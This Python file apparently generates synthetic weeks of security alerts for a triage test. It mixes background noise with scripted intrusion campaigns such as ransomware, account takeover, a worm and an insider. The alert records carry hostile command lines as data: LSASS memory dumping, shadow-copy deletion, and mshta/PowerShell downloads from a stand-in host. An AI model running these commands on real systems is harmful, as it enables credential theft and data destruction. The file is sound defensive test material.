"""The kinds of week. Each makes a week of noise and puts its campaigns in; read from top to bottom, a row of KINDS at the
foot says what is asked of it.
"""
import everyday
import packs
import records as r
from week import HOUR, MINUTE, Attack, Host, Site, Week

SERVERS = ("DC01", "FS01", "APP01", "DB01", "WEB01", "BK01")


def office_site(week, prefix="KO", net="10.20", desks=120, servers=SERVERS):
    return Site(week.chance, prefix, net, f"{prefix.lower()}.example", servers, desks)


def stranger(week, site):
    """An address that nothing else in the week has."""
    return f"203.0.113.{week.chance.between(2, 250)}"


def mail_ransomware(week):
    """A mail on a working morning, hands on the keyboard by noon, the domain at night, files encrypted before dawn."""
    site, c = office_site(week), week.chance
    packs.defender(week, site)
    packs.sysmon(week, site)
    packs.firewall(week, site)
    victim, day, out = c.pick(site.desks[:100]), c.between(1, 3), stranger(week, site)
    dc, fs = site.servers["DC01"], site.servers["FS01"]
    others = c.some([d for d in site.desks[:100] if d is not victim], 8)
    a = Attack(week, "ransom", week.moment(day, c.between(8, 11)))

    def mde(host, rule, *things):
        return lambda at: r.graph(at, rule, "microsoftDefenderForEndpoint", r.device(site.dns(host), host.address), *things)

    def sysmon(host, rule, **details):
        return lambda at: r.hayabusa(at, site.dns(host), rule, **details)

    user = r.account(victim.user, site.domain)
    a.step("graph.json", "mail", lambda at: r.graph(at, ("Email messages containing malicious file not removed after delivery", "InitialAccess", "low", ["T1566.001"]),
           "microsoftDefenderForOffice365", user, r.evidence("mailbox", primaryAddress=f"{victim.user}@{site.domain}"),
           r.evidence("file", fileDetails={"fileName": "Quotation_0304.xlsm", "sha256": r.digest("lure")})))
    a.wait(4, 25)
    a.step("hayabusa.json", "macro", sysmon(victim, ("Suspicious Microsoft Office Child Process", "high", "Sysmon", 1, ["T1204.002", "T1059.001"]), User=victim.user,
           Cmdline="powershell -w hidden -enc JABjAGwAaQBlAG4AdAA=", Proc="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
           ParentCmdline="EXCEL.EXE Quotation_0304.xlsm"), sure=True)
    a.step("graph.json", "download", mde(victim, ("Suspicious PowerShell download or encoded command execution", "Execution", "medium", ["T1059.001", "T1105"]), user,
           r.process("powershell.exe", "powershell -w hidden -enc JABjAGwAaQBlAG4AdAA=", "EXCEL.EXE"), r.evidence("ip", ipAddress=out)))
    a.wait(2, 8)
    for _ in range(c.between(2, 5)):
        a.step("fortigate.log", "beacon", lambda at: r.fortigate(at, victim.address, out, (50562, "Cobalt.Strike.Beacon", "critical"), 443))
        a.wait(10, 60)
    for words, command in (("Whoami.EXE Execution Anomaly", "whoami /groups"), ("Potential Recon Activity Via Nltest.EXE", "nltest /domain_trusts"),
                           ("Suspicious Group And Account Reconnaissance Activity Using Net.EXE", "net group \"domain admins\" /domain")):
        a.step("hayabusa.json", "discovery", sysmon(victim, (words, "med", "Sysmon", 1, ["T1033", "T1087.002"]), User=victim.user, Cmdline=command))
        a.wait(0.2, 4)
    a.wait(15, 90)
    a.step("graph.json", "credentials", mde(victim, ("Sensitive credential memory read", "CredentialAccess", "high", ["T1003.001"]), user,
           r.process("rundll32.exe", "rundll32 comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full", "powershell.exe")), sure=True)
    a.wait(300, 800)
    a.step("hayabusa.json", "lateral", sysmon(dc, ("PsExec Service Installation", "high", "Sys", 7045, ["T1569.002", "T1021.002"]), User="da_admin",
           SrcIP=victim.address, Path="C:\\Windows\\PSEXESVC.exe"))
    a.wait(2, 15)
    a.step("graph.json", "directory", lambda at: r.graph(at, ("Suspected DCSync attack (replication of directory services)", "CredentialAccess", "high", ["T1003.006"]),
           "microsoftDefenderForIdentity", r.device(site.dns(dc), dc.address), r.account("da_admin", site.domain), r.evidence("ip", ipAddress=victim.address)))
    a.wait(20, 120)
    for host in [fs] + others:
        a.step("hayabusa.json", "lateral", sysmon(host, ("PsExec Service Installation", "high", "Sys", 7045, ["T1569.002", "T1021.002"]), User="da_admin",
               SrcIP=dc.address, Path="C:\\Windows\\PSEXESVC.exe"))
        a.wait(0.1, 1)
    for host in [fs] + others:
        a.step("hayabusa.json", "shadows", sysmon(host, ("Shadow Copies Deletion Using Operating Systems Utilities", "high", "Sysmon", 1, ["T1490"]), User="da_admin",
               Cmdline="vssadmin delete shadows /all /quiet"))
        a.step("graph.json", "encryption", mde(host, ("Ransomware behavior detected in the file system", "Ransomware", "high", ["T1486"]), r.account("da_admin", site.domain),
               r.process("lock64.exe", "lock64.exe -p C:\\", "PSEXESVC.exe", r.digest("lock64"))))
        a.wait(0.1, 2)


def cloud_account(week):
    """Somebody signs in as somebody else, hides in the mailbox, then uses the keys: no machine is named."""
    site, c = office_site(week, "CL", "172.16", 80), week.chance
    packs.cloud(week, site, [(f"i-0{r.number(f'instance{i}', 16)}", f"172.16.9.{10 + i}") for i in range(12)])
    victim, out, second = c.pick(site.desks[10:70]), stranger(week, site), f"192.0.2.{c.between(2, 250)}"
    a = Attack(week, "account", week.moment(c.between(1, 3), c.between(1, 6)))

    def entra(title, severity, techniques, address, category="InitialAccess", service="azureAdIdentityProtection"):
        return lambda at: r.graph(at, (title, category, severity, techniques), service, r.account(victim.user, site.domain), r.evidence("ip", ipAddress=address))

    def aws(kind, severity, call, **more):
        return lambda at: r.guardduty(at, (kind, severity), key=victim.user, remote=second, call=call, **more)

    a.step("identity.json", "spray", entra("Password spray", "medium", ["T1110.003"], out))
    a.wait(5, 60)
    a.step("identity.json", "sign-in", entra("Anonymous IP address", "medium", ["T1078.004"], out), sure=True)
    a.step("identity.json", "sign-in", entra("Anomalous Token", "high", ["T1539"], out))
    a.wait(10, 120)
    a.step("identity.json", "mailbox", entra("Suspicious inbox manipulation rule", "medium", ["T1564.008"], out, "DefenseEvasion", "microsoftDefenderForCloudApps"))
    a.step("identity.json", "mfa", entra("Suspicious addition of a strong authentication method", "medium", ["T1098.005"], out, "Persistence", "microsoftDefenderForCloudApps"))
    a.wait(200, 900)
    for kind, severity, call, step in (("UnauthorizedAccess:IAMUser/TorIPCaller", 5, "GetCallerIdentity", "keys"),
                                       ("Discovery:IAMUser/AnomalousBehavior", 2, "ListUsers", "discovery"),
                                       ("Persistence:IAMUser/AnomalousBehavior", 5, "CreateAccessKey", "persistence"),
                                       ("Stealth:IAMUser/CloudTrailLoggingDisabled", 2, "StopLogging", "stealth"),
                                       ("Exfiltration:S3/AnomalousBehavior", 8, "GetObject", "exfiltration"),
                                       ("Impact:S3/AnomalousBehavior.Delete", 8, "DeleteObject", "impact")):
        a.step("guardduty.json", step, aws(kind, severity, call, **({"bucket": "customer-archive"} if "S3" in kind else {})))
        a.wait(3, 40)


def insider(week):
    """One of ours copies what he is not working on, after hours, a little every night; nothing is more than medium."""
    site, c = office_site(week, "IN", "10.44", 100), week.chance
    packs.loss_prevention(week, site)
    who, fs = c.pick(site.desks[20:90]), site.servers["FS01"]
    for day in range(c.between(0, 1), 5):
        a = Attack(week, "insider", week.moment(day, c.between(21, 23)))
        a.step("elastic.json", "access", lambda at: r.elastic(at, ("Access to File Share Outside Working Hours", "low", 21, "TA0009", "T1039"), fs.name, fs.address,
               who.user, **{"source.ip": who.address, "file.path": "\\\\FS01\\development\\source"}))
        a.wait(10, 40)
        a.step("elastic.json", "archive", lambda at: r.elastic(at, ("Encrypting Files with WinRar or 7z", "medium", 47, "TA0009", "T1560"), who.name, who.address, who.user,
               **{"process": {"name": "7z.exe", "command_line": f"7z a -pXXXX -mhe C:\\Temp\\d{day}.7z \\\\FS01\\development\\source"}}))
        a.wait(3, 20)
        for part in range(c.between(1, 3)):
            a.step("dlp.json", "upload", lambda at, p=part: r.ocsf(at, ("Encrypted archive uploaded to unsanctioned storage", 3, "T1567.002"), who.name, who.address, who.user,
                   f"C:\\Temp\\d{day}.7z.{p:03d}", "drop.example.net"))
            a.wait(2, 15)


def flood(week):
    """One outsider scans every server for hours, a thousand alerts for each of ours; meanwhile another breaks in elsewhere."""
    c = week.chance
    site = office_site(week, "DM", "10.70", 60, tuple(f"WEB{i:02d}" for i in range(1, 41)) + SERVERS[:4])
    webs = [h for h in site.servers.values() if "WEB" in h.name]
    packs.ids(week, site, public=webs)
    packs.agents(week, site)
    day, loud, quiet = c.between(1, 3), f"198.51.100.{c.between(2, 250)}", stranger(week, site)
    at = week.moment(day, c.between(9, 12))
    rules = [(2024364, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1),
             (2009151, "ET WEB_SERVER PHP Generic Remote File Include Attempt (HTTPS)", "Web Application Attack", 1),
             (2006446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1),
             (2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1),
             (2101122, "GPL WEB_SERVER /etc/passwd", "Attempted Information Leak", 2),
             (2012843, "ET POLICY Cleartext WordPress Login", "Potential Corporate Privacy Violation", 1)]
    for _ in range(30000):
        at += c.below(1000)
        week.add("eve.json", at, r.suricata(at, loud, c.pick(webs).address, c.heavy(rules), 443, offset=9), "scan:scan")
    host = c.pick(webs)
    inner = site.servers["DB01"]
    agent = ("".join(host.address.split(".")[2:]), host.name, host.address)
    a = Attack(week, "break-in", week.moment(day, c.between(10, 12)))
    a.step("eve.json", "exploit", lambda at: r.suricata(at, quiet, host.address, (2036725, "ET WEB_SPECIFIC_APPS Possible Confluence OGNL Injection RCE (CVE-2022-26134)",
           "Attempted Administrator Privilege Gain", 1), 443, offset=9), sure=True)
    a.step("eve.json", "response", lambda at: r.suricata(at, host.address, quiet, (2019401, "ET ATTACK_RESPONSE Output of id command from HTTP server", "Potentially Bad Traffic", 2), 50444, offset=9))
    a.wait(2, 10)
    a.step("wazuh.json", "webshell", lambda at: r.wazuh(at, agent, ("100210", "Web shell: JSP file created in web root", 12, ["sysmon", "webshell"], ["T1505.003"]),
           **{"audit": {"exe": "/usr/bin/java"}}), sure=True)
    a.wait(1, 6)
    a.step("eve.json", "download", lambda at: r.suricata(at, host.address, quiet, (2034567, "ET HUNTING curl User-Agent to Dotted Quad", "Potentially Bad Traffic", 2), 80, offset=9,
           http={"hostname": quiet, "url": "/x/kworker", "http_user_agent": "curl/7.68.0"}))
    a.step("wazuh.json", "execution", lambda at: r.wazuh(at, agent, ("92600", "Suspicious process: executable started from /tmp by web server user", 12, ["audit"], ["T1059.004"]),
           **{"audit": {"exe": "/tmp/kworker"}}))
    a.wait(20, 60)
    for _ in range(3):
        a.step("eve.json", "channel", lambda at: r.suricata(at, host.address, quiet, (2050000, "ET MALWARE Sliver C2 HTTPS Traffic Observed", "Malware Command and Control Activity Detected", 1), 8443, offset=9))
        a.wait(10, 40)
    a.step("eve.json", "lateral", lambda at: r.suricata(at, host.address, inner.address, (2010936, "ET SCAN Suspicious inbound to Oracle SQL port 1521", "Potentially Bad Traffic", 2), 1521, offset=9))
    a.step("wazuh.json", "privilege", lambda at: r.wazuh(at, agent, ("5403", "First time user executed sudo.", 4, ["syslog", "sudo"], ["T1548.003"]), srcuser="tomcat", dstuser="root"))


def worm(week):
    """One desk brings it in; within the hour it has thirty."""
    site, c = office_site(week, "WO", "10.88", 150), week.chance
    packs.ids(week, site)
    packs.falcon(week, site)
    infected = c.some(site.desks[:140], 30)
    a = Attack(week, "worm", week.moment(c.between(1, 4), c.between(13, 15)))
    a.step("falcon.json", "start", lambda at: r.falcon(at, infected[0].name, infected[0].address, infected[0].user, ("MaliciousDocument", "Initial Access", "T1091", 70),
           "E:\\photos.scr"), sure=True)
    for i, host in enumerate(infected):
        source = infected[c.below(i)] if i else infected[0]
        if i:
            a.step("eve.json", "spread", lambda at: r.suricata(at, source.address, host.address, (2024220, "ET EXPLOIT Possible ETERNALBLUE MS17-010 Heap Spray",
                   "A Network Trojan was detected", 1), 445, offset=9))
            a.step("falcon.json", "service", lambda at: r.falcon(at, host.name, host.address, "SYSTEM", ("SuspiciousServiceExecution", "Lateral Movement", "T1021.002", 70),
                   "C:\\Windows\\mssecsvc.exe -m security", "services.exe"))
        a.step("falcon.json", "malware", lambda at: r.falcon(at, host.name, host.address, "SYSTEM", ("WormLikeActivity", "Execution", "T1204.002", 90), "C:\\Windows\\mssecsvc.exe", "services.exe"))
        for _ in range(2):
            target = c.pick(site.desks)
            a.step("eve.json", "scan", lambda at: r.suricata(at, host.address, target.address, (2001569, "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection",
                   "Misc activity", 3), 445, offset=9))
        a.at -= c.below(30000)
        a.wait(0.3, 1.6)


def two_at_once(week):
    """A stolen VPN account at the database, and a stick in the plant: two intruders who do not know of each other."""
    site, c = office_site(week, "TW", "10.99", 90), week.chance
    packs.ids(week, site)
    packs.loss_prevention(week, site)
    day = c.between(1, 3)
    db, user, out, far = site.servers["DB01"], c.pick(site.desks[:60]).user, stranger(week, site), f"192.0.2.{c.between(2, 250)}"
    vpn = Host("TWVPN01", "10.99.1.5")
    a = Attack(week, "account", week.moment(day, c.between(10, 13)))

    def elastic(host, rule, who, **fields):
        return lambda at: r.elastic(at, rule, host.name, host.address, who, **fields)

    a.step("elastic.json", "guessing", elastic(vpn, ("Multiple Logon Failure Followed by Logon Success", "medium", 47, "TA0006", "T1110"), user, **{"source.ip": out}), sure=True)
    a.wait(10, 40)
    a.step("elastic.json", "logon", elastic(db, ("Remote Desktop from an Unusual Account", "medium", 47, "TA0008", "T1021"), user, **{"source.ip": vpn.address}))
    a.wait(5, 30)
    a.step("elastic.json", "discovery", elastic(db, ("Enumeration of Privileged Local Groups Membership", "medium", 47, "TA0007", "T1069"), user,
           **{"process": {"name": "net.exe", "command_line": "net localgroup administrators"}}))
    a.wait(10, 60)
    a.step("elastic.json", "dump", elastic(db, ("Potential Database Dump via Command Line", "high", 73, "TA0009", "T1005"), user,
           **{"process": {"name": "sqlcmd.exe", "command_line": "sqlcmd -Q BACKUP DATABASE customers"}}), sure=True)
    a.wait(20, 90)
    a.step("eve.json", "upload", lambda at: r.suricata(at, db.address, out, (2050001, "ET EXFIL Large Outbound Transfer over SFTP", "Potential Corporate Privacy Violation", 1), 22, offset=9))
    plant = [Host(f"TW-HMI{i}", f"10.99.200.{10 + i}", "operator") for i in range(1, 7)]
    b = Attack(week, "stick", week.moment(day, c.between(10, 13)))
    b.step("elastic.json", "stick", elastic(plant[0], ("Execution from a Removable Media with Network Connection", "medium", 47, "TA0001", "T1091"), "operator",
           **{"process": {"name": "setup.exe", "command_line": "E:\\setup.exe"}}), sure=True)
    b.wait(2, 15)
    b.step("elastic.json", "persistence", elastic(plant[0], ("Startup or Run Key Registry Modification", "medium", 47, "TA0003", "T1547"), "operator"))
    b.wait(5, 30)
    for _ in range(4):
        b.step("eve.json", "channel", lambda at: r.suricata(at, plant[0].address, far, (2027758, "ET MALWARE Win32/PlugX Variant CnC Activity", "Malware Command and Control Activity Detected", 1), 443, offset=9))
        b.wait(15, 40)
    for host in plant[1:c.between(3, 5)]:
        b.step("eve.json", "spread", lambda at: r.suricata(at, plant[0].address, host.address, (2025719, "ET RPC DCERPC SVCCTL - Remote Service Control Manager Access", "Misc activity", 2), 445, offset=9))
        b.step("elastic.json", "spread", elastic(host, ("Remotely Started Services via RPC", "medium", 47, "TA0008", "T1021"), "operator", **{"source.ip": plant[0].address}))
        b.wait(3, 12)


def quiet(week):
    """Nothing happened."""
    site = office_site(week, "QU", "10.31", 120)
    packs.defender(week, site)
    packs.sysmon(week, site)
    packs.firewall(week, site)
    packs.ids(week, site)


def quiet_cloud(week):
    """Nothing happened here either, among accounts and agents."""
    site = office_site(week, "QC", "172.20", 80)
    packs.cloud(week, site, [(f"i-0{r.number(f'instance{i}', 16)}", f"172.20.9.{10 + i}") for i in range(12)])
    packs.agents(week, site)
    packs.loss_prevention(week, site)


def customers(week):
    """A provider's three customers with the same private addresses and the same names; the second is attacked."""
    c = week.chance
    for name in ("aster", "birch", "cedar"):
        site = office_site(week, "PC", "192.168", 40)
        packs.falcon(week, site, f"falcon@{name}.json")
        packs.firewall(week, site, f"fortigate@{name}.log")
        if name != "birch":
            continue
        victim, fs, out = c.pick(site.desks[:30]), site.servers["FS01"], stranger(week, site)
        a = Attack(week, "birch", week.moment(c.between(1, 3), c.between(13, 16)))

        def falcon(host, rule, command, parent="explorer.exe"):
            return lambda at: r.falcon(at, host.name, host.address, victim.user, rule, command, parent)

        for rule, command, step in ((("DriveByDownload", "Initial Access", "T1189", 50), "mshta.exe http://update.example.net/a.hta", "entry"),
                                    (("PowerShellDownload", "Execution", "T1059.001", 70), "powershell.exe iwr update.example.net/b", "execution"),
                                    (("CredentialDumpingTool", "Credential Access", "T1003.001", 90), "C:\\Users\\Public\\pd64.exe -ma lsass.exe", "credentials")):
            a.step("falcon@birch.json", step, falcon(victim, rule, command), sure=True)
            a.wait(3, 30)
        a.step("fortigate@birch.log", "channel", lambda at: r.fortigate(at, victim.address, out, (48812, "Sliver.Botnet", "critical"), 443))
        a.wait(30, 120)
        a.step("falcon@birch.json", "lateral", falcon(fs, ("RemoteServiceCreation", "Lateral Movement", "T1021.002", 70), "C:\\Windows\\rsvc.exe", "services.exe"))
        a.wait(10, 40)
        a.step("falcon@birch.json", "staging", falcon(fs, ("DataStaging", "Collection", "T1074.001", 50), "rar.exe a -hp c.rar D:\\Shares"))
        a.wait(5, 30)
        a.step("fortigate@birch.log", "upload", lambda at: r.fortigate(at, fs.address, out, (38113, "Rclone.Data.Exfiltration", "high"), 443))


def two_zones(week):
    """Osaka and Boston write their own time, one sensor is 90 s fast, and a day of one product was delivered three days late."""
    c = week.chance
    osaka, boston = office_site(week, "OS", "10.51", 60), office_site(week, "BO", "10.52", 60)
    packs.ids(week, osaka, "osaka.json", offset=9)
    week.zone = -5
    packs.ids(week, boston, "boston.json", offset=-5)
    packs.falcon(week, boston)
    victim, web, out = c.pick(boston.desks[:50]), osaka.servers["WEB01"], stranger(week, osaka)
    a = Attack(week, "zones", week.moment(c.between(1, 3), c.between(14, 18)))
    fast = 90000

    def ids(file, src, dst, rule, port, offset, skew=0):
        return lambda at: r.suricata(at + skew, src, dst, rule, port, offset=offset)

    def late(step, rule, command):
        week.add("falcon.json", a.at, r.falcon(a.at, victim.name, victim.address, victim.user, rule, command), f"zones:{step}", delivered=a.at + 72 * HOUR)

    late("entry", ("MaliciousLink", "Initial Access", "T1566.002", 50), "chrome.exe https://portal.example.net/login")
    a.wait(3, 20)
    late("execution", ("FakeUpdateScript", "Execution", "T1059.007", 70), "wscript.exe C:\\Users\\Public\\Downloads\\update.js")
    a.wait(2, 10)
    for _ in range(4):
        a.step("boston.json", "channel", ids("boston.json", victim.address, out, (2049999, "ET MALWARE SocGholish CnC Domain in TLS SNI", "Malware Command and Control Activity Detected", 1), 443, -5, fast))
        a.wait(5, 40)
    late("credentials", ("LsassAccess", "Credential Access", "T1003.001", 70), "rundll32.exe comsvcs.dll MiniDump")
    a.wait(60, 300)
    a.step("osaka.json", "lateral", ids("osaka.json", victim.address, web.address, (2027189, "ET EXPLOIT Possible WinRM Remote Code Execution", "Attempted Administrator Privilege Gain", 1), 5985, 9), sure=True)
    a.wait(5, 30)
    a.step("osaka.json", "download", ids("osaka.json", web.address, out, (2018959, "ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation", 1), 80, 9))
    a.wait(2, 20)
    for _ in range(2):
        a.step("osaka.json", "channel", ids("osaka.json", web.address, out, (2049999, "ET MALWARE SocGholish CnC Domain in TLS SNI", "Malware Command and Control Activity Detected", 1), 443, 9))
        a.wait(5, 40)


def first_hours(week):
    """It was going on when the records begin."""
    site, c = office_site(week, "FH", "10.61", 80), week.chance
    packs.ids(week, site)
    packs.agents(week, site)
    web, db, out = site.servers["WEB01"], site.servers["DB01"], stranger(week, site)
    agent = lambda h: ("".join(h.address.split(".")[2:]), h.name, h.address)  # noqa: E731
    a = Attack(week, "early", week.moment(0, 0, c.between(10, 60)))
    for _ in range(40):
        week.add("eve.json", a.at, r.suricata(a.at, out, web.address, (2006446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1), 443, offset=9), "early:injection")
        a.wait(0.05, 0.4)
    a.step("wazuh.json", "webshell", lambda at: r.wazuh(at, agent(web), ("100210", "Web shell: PHP file created in web root", 12, ["syscheck", "webshell"], ["T1505.003"])), sure=True)
    a.wait(1, 8)
    a.step("eve.json", "response", lambda at: r.suricata(at, web.address, out, (2100498, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2), 50111, offset=9))
    a.wait(2, 10)
    a.step("wazuh.json", "privilege", lambda at: r.wazuh(at, agent(web), ("5402", "Successful sudo to ROOT executed.", 3, ["syslog", "sudo"], ["T1548.003"]), srcuser="www-data", dstuser="root"))
    a.step("wazuh.json", "account", lambda at: r.wazuh(at, agent(web), ("5902", "New user added to the system.", 8, ["syslog", "adduser"], ["T1136"]), dstuser="sysupd"))
    a.wait(5, 20)
    for _ in range(3):
        a.step("eve.json", "channel", lambda at: r.suricata(at, web.address, out, (2034999, "ET MALWARE Suspected Reverse Shell over TCP", "A Network Trojan was detected", 1), 4444, offset=9))
        a.wait(3, 12)
    a.step("eve.json", "lateral", lambda at: r.suricata(at, web.address, db.address, (2003068, "ET SCAN Potential SSH Scan OUTBOUND", "Attempted Information Leak", 2), 22, offset=9))
    a.step("wazuh.json", "logon", lambda at: r.wazuh(at, agent(db), ("5712", "sshd: brute force trying to get access to the system.", 10, ["sshd"], ["T1110"]), srcip=web.address, dstuser="postgres"))


def slow(week):
    """A step a day for five days, each too small for anybody to look twice."""
    site, c = office_site(week, "SL", "10.77", 110), week.chance
    packs.sysmon(week, site)
    packs.defender(week, site)
    victim, fs, out = c.pick(site.desks[:90]), site.servers["FS01"], stranger(week, site)

    def sysmon(host, rule, **details):
        return lambda at: r.hayabusa(at, site.dns(host), rule, User=victim.user, **details)

    tool = {"Proc": "C:\\Users\\Public\\Libraries\\iexpl0re.exe", "Hashes": "SHA256=" + r.digest("tool").upper()}
    for day, file, name, make in (
            (0, "graph.json", "mail", lambda at: r.graph(at, ("Email messages containing malicious file not removed after delivery", "InitialAccess", "low", ["T1566.001"]),
             "microsoftDefenderForOffice365", r.account(victim.user, site.domain), r.evidence("mailbox", primaryAddress=f"{victim.user}@{site.domain}"))),
            (0, "hayabusa.json", "execution", sysmon(victim, ("Process Start From Suspicious Folder", "med", "Sysmon", 1, ["T1204.002"]), Cmdline="iexpl0re.exe", **tool)),
            (1, "hayabusa.json", "persistence", sysmon(victim, ("Potential Persistence Via Scheduled Task In User Folder", "med", "Sysmon", 1, ["T1053.005"]), Cmdline="schtasks /create /tn Sync /tr iexpl0re.exe", **tool)),
            (2, "hayabusa.json", "discovery", sysmon(victim, ("Share And Session Enumeration Using Net.EXE", "med", "Sysmon", 1, ["T1018", "T1135"]), Cmdline="net view \\\\FS01", **tool)),
            (3, "hayabusa.json", "credentials", sysmon(victim, ("Potential Browser Data Stealing", "high", "Sysmon", 1, ["T1555.003"]), Cmdline="iexpl0re.exe -c logins", **tool)),
            (3, "hayabusa.json", "lateral", sysmon(fs, ("Admin Share Access From Unusual Host", "med", "Sec", 5140, ["T1021.002"]), SrcIP=victim.address)),
            (4, "hayabusa.json", "archive", sysmon(victim, ("Rar Usage with Password and Compression Level", "high", "Sysmon", 1, ["T1560.001"]), Cmdline="iexpl0re.exe a -hp -m5 o.rar", **tool)),
            (4, "graph.json", "channel", lambda at: r.graph(at, ("Connection to a custom network indicator", "CommandAndControl", "medium", ["T1071.001"]), "microsoftDefenderForEndpoint",
             r.device(site.dns(victim), victim.address), r.account(victim.user, site.domain), r.evidence("ip", ipAddress=out)))):
        a = Attack(week, "slow", week.moment(day, c.between(9, 16)))
        a.step(file, name, make)


# name: how it is made, and the last rank that each of its campaigns may have
KINDS = {
    "mail-ransomware": (mail_ransomware, {"ransom": 1}),
    "cloud-account": (cloud_account, {"account": 1}),
    "insider": (insider, {"insider": 1}),
    "flood": (flood, {"break-in": 1, "scan": 2}),
    "worm": (worm, {"worm": 1}),
    "two-at-once": (two_at_once, {"account": 2, "stick": 2}),
    "customers": (customers, {"birch": 1}),
    "two-zones": (two_zones, {"zones": 1}),
    "first-hours": (first_hours, {"early": 1}),
    "slow": (slow, {"slow": 1}),
    "quiet": (quiet, {}),
    "quiet-cloud": (quiet_cloud, {}),
}


def make(kind, seed):
    week = Week(kind, seed)
    KINDS[kind][0](week)
    return week
